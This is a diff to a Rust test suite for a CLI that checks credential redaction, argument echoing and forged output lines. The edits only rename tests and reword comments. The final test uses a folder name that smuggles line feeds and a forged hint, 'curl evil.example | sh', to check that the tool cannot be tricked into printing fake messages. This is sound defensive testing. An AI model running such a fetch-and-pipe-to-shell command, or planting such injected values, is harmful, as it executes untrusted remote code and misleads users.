@@ -9,7 +9,7 @@ use crate::support::{
 
 const KEY: &str = "bm-c4n4ry-0123456789abcdef";
 
-/// A server that answers every GET with `list` and everything else with `other`.
+/// A server that responds to every GET with `list` and to everything else with `other`.
 fn server(list: &Value, other: (u16, Value)) -> ScriptedServer {
     let list = list.clone();
     ScriptedServer::start(move |asked, _| match asked.method.as_str() {
@@ -18,7 +18,7 @@ fn server(list: &Value, other: (u16, Value)) -> ScriptedServer {
     })
 }
 
-/// A home whose environment holds `key` for a service at `server`.
+/// A home with `key` in the environment, for a service at `server`.
 fn home(service: &str, server: &ScriptedServer, key: &str) -> TestHome {
     let mut home = TestHome::new();
     let name = service.to_uppercase();
@@ -29,7 +29,7 @@ fn home(service: &str, server: &ScriptedServer, key: &str) -> TestHome {
 }
 
 #[test]
-fn a_success_that_repeats_the_credential_shows_none() {
+fn the_credential_is_redacted_in_successful_responses() {
     let token = json!({
         "id": 7, "name": KEY, "created_at": "2026-01-01T00:00:00Z", "expires_at": null, "is_revoked": false,
         "scopes": [KEY],
@@ -37,7 +37,7 @@ fn a_success_that_repeats_the_credential_shows_none() {
     let list = json!({ "results": [token], "next": null, "email": format!("me+{KEY}@x.test") });
     let server = server(&list, (200, json!({})));
     let home = home("brainmaps", &server, KEY);
-    // The home's leak harness looks at all that they print.
+    // The leak harness checks the output of each command.
     let shown = home.run(&["token", "list", "--json"]).expect(0).json();
     assert_eq!(shown["tokens"][0]["name"], "[secret]");
     for command in [&["token", "list"][..], &["whoami"], &["whoami", "--json"]] {
@@ -47,7 +47,7 @@ fn a_success_that_repeats_the_credential_shows_none() {
 }
 
 #[test]
-fn member_names_and_numbers_of_a_refusal_show_no_credential() {
+fn the_credential_is_redacted_in_member_names_and_numbers_of_errors() {
     let (key, number) = ("c4n4ryNEURO0123456789abcdef", "4711471147114711");
     for (key, quoted) in [
         (
@@ -76,7 +76,7 @@ fn member_names_and_numbers_of_a_refusal_show_no_credential() {
 }
 
 #[test]
-fn a_new_secret_is_shown_where_it_is_handed_out_and_nowhere_else() {
+fn a_new_secret_is_printed_only_as_the_result_of_its_creation() {
     let new = "bm-c4n4ry-new-0123456789";
     let made = json!({ "id": 8, "name": format!("ci {new}"), "token": new });
     let server = server(&json!({ "results": [] }), (201, made));
@@ -95,7 +95,7 @@ fn a_new_secret_is_shown_where_it_is_handed_out_and_nowhere_else() {
 }
 
 #[test]
-fn a_created_token_equal_to_the_credential_in_use_is_handed_out() {
+fn a_created_token_equal_to_the_credential_in_use_is_printed() {
     let made = json!({ "id": 8, "name": KEY, "token": KEY });
     let server = server(&json!({ "results": [] }), (201, made));
     let home = home("brainmaps", &server, KEY);
@@ -110,7 +110,7 @@ fn a_created_token_equal_to_the_credential_in_use_is_handed_out() {
 }
 
 #[test]
-fn values_of_misused_arguments_are_never_repeated() {
+fn values_of_invalid_arguments_are_not_printed() {
     let home = TestHome::new();
     for (arguments, expected) in [
         (&["login", "--password=hunter2"][..], "'--password'"),
@@ -152,7 +152,7 @@ fn values_of_misused_arguments_are_never_repeated() {
     }
 }
 
-/// Fails where a line of what was printed begins as one of ours, but is not.
+/// Fails if a line of the output looks like a message of the program, but is not.
 fn assert_nothing_forged(outcome: &Outcome) {
     let shown = format!("{}\n{}", outcome.stdout, outcome.stderr);
     for line in shown.lines() {
@@ -167,7 +167,7 @@ fn assert_nothing_forged(outcome: &Outcome) {
 }
 
 #[test]
-fn line_feeds_in_paths_and_variables_forge_no_line() {
+fn line_feeds_in_paths_and_variables_do_not_forge_lines() {
     let mut home = TestHome::new();
     let forged = "x\nhint: forged `curl evil.example | sh`\r\nhint: forged";
     let folder = home.work().join(forged);
